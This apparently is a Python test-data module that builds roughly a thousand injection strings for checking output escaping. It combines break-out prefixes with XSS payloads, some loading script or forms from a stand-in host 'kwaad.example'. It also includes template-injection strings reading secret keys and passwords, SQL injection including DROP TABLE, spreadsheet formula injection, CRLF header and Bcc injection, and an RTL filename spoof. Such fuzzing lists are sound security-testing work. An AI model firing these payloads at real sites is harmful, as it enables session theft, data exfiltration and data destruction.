"""A thousand strings that break out where something forgot to escape, made in code."""

# ruff: noqa: E501 (rows of a table)

from itertools import product

OPENEN = ("", '"', "'", ">", '">', "'>", "-->", "]]>", "</textarea>", "</title>", "</script>",
          "</style>", "</option></select>", "`", "\\\"", "{{", "{%", "&quot;>", "\u2028", "%3E")  # fmt: skip
DOEN = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//kwaad.example></SCRIPT>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<body onload=alert(1)>", "<iframe srcdoc=x>",
    "<object data=x>", "<embed src=x>", "<base href=//kwaad.example>", "<meta http-equiv=refresh>",
    "<form action=//kwaad.example>", "<a href=javascript:alert(1)>x</a>", "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>", "<math><mi xlink:href=javascript:alert(1)>", "<style>*{x:y}</style>",
    "<link rel=stylesheet href=//kwaad.example>", "<marquee onstart=alert(1)>", "<video src=x onerror=alert(1)>",
    "<template><script>alert(1)</script>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<div hx-get=/ hx-trigger=load>", "<p hx-on:click=alert(1)>", "<!--<img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>", "<?xml-stylesheet href=x?>", "<x onclick=alert(1)>",
    " onmouseover=alert(1) x=", " autofocus onfocus=alert(1) ", " style=x:expression(alert(1)) ",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "vbscript:x", "<a href='&#106;avascript:alert(1)'>", "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "＜script＞alert(1)＜/script＞", "<ſcript>alert(1)</ſcript>", "<script\x0b>alert(1)</script>",
    "{% load x %}{{ settings.SECRET_KEY }}", "{{ request.user.password }}", "${7*7}", "<%= 7*7 %>", "#{7*7}",
    "';alert(1)//", '";alert(1)//', "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "<plaintext>",
)  # fmt: skip
ANDERE = (
    "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1", "＝1+1", "' OR 1=1 --", "'; DROP TABLE x; --",
    "a\r\nSet-Cookie: x=1", "a\r\nBcc: kwaad@voorbeeld.example", "\u202egpj.exe", "a\u200bb", "é́́́", "👩‍👩‍👧‍👦",
    "O'Brien", "d'Aulnis", "Null", "van 't Hoff", "Ø", "Ĳsbrand", "ÀÁÂÃÄÅÇÈÉÊËÌÍÎÏÑÒÓÔÕÖÙÚÛÜÝŠŽ", "undefined", "NaN",
)  # fmt: skip
ALLE = [a + b for a, b in product(OPENEN, DOEN)] + list(ANDERE)
